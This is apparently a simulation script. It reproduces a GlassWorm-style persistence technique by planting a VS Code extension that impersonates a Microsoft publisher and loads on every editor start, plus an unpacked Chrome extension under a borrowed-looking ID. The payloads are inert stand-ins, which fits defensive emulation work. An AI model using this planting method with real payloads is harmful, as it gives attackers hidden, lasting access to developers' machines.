// Persistence through the developer's editor and browser (GlassWorm-style, 2025): drops a VS
// Code extension into ~/.vscode/extensions (it runs at every editor start with the user's
// rights) and an unpacked Chrome extension into the profile's Extensions folder. The files
// are inert stand-ins written under a temporary HOME.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const ext = path.join(home, '.vscode', 'extensions', 'ms-python.pylint-helper-1.0.4');
fs.mkdirSync(ext, { recursive: true });
fs.writeFileSync(path.join(ext, 'package.json'),
  JSON.stringify({ name: 'pylint-helper', main: './extension.js', activationEvents: ['*'] }));
fs.writeFileSync(path.join(ext, 'extension.js'), 'exports.activate = () => {};\n');

const crx = path.join(home, '.config', 'google-chrome', 'Default', 'Extensions',
  'kbfnbcaeplbcioakkpcpgfkobkghlhen', '14.1.0_0');
fs.mkdirSync(crx, { recursive: true });
fs.writeFileSync(path.join(crx, 'manifest.json'),
  JSON.stringify({ manifest_version: 3, name: 'Grammar', background: { service_worker: 'bg.js' } }));
fs.writeFileSync(path.join(crx, 'bg.js'), '// inert\n');
